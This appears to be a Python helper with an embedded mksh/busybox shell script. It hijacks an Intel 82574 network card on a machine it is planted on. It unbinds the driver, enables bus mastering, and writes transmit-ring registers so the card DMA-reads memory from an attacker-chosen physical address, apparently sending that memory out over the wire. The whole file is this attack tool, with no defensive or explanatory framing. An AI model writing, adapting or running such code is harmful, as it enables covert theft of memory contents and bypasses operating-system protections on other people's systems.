"""DMA planted: the NIC of whoever has it made to read from where it is told."""

from __future__ import annotations

# Intel 82574 datasheet, 10.2: transmit control, and the ring of descriptors.
TCTL, TDBAL, TDBAH, TDLEN, TDH, TDT = 0x400, 0x3800, 0x3804, 0x3808, 0x3810, 0x3818
# The device reads its first descriptor from where we say. Its driver lets go of it before. mksh
# reckons with 32 bits, and behind a `#` without a sign: a BAR is often above 2 GiB.
PROGRAM_DMA = """
device=$(readlink -f /sys/class/net/uplink/device)
echo "${device##*/}" > "$device/driver/unbind"
read -r bar end flags < "$device/resource"
setpci=$device/config
printf '\\007\\000' | dd of="$setpci" bs=1 seek=4 conv=notrunc 2> /dev/null
poke() { busybox devmem $((# bar + $1)) 32 "$2" || exit 1; }
while [ $# -gt 0 ]; do poke "$1" "$2"; shift 2; done
"""


def render_dma_words(address: int) -> list[str]:
    """Registers and values, in this order: a ring at an address, one descriptor in it, go."""
    low, high = hex(address & 0xFFFF_FFFF), hex(address >> 32)
    values = (
        (TCTL, "0"), (TDBAL, low), (TDBAH, high), (TDLEN, "0x1000"), (TDH, "0"),
        (TCTL, "0x2"), (TDT, "1"),
    )  # fmt: skip
    return [word for register, value in values for word in (str(register), value)]
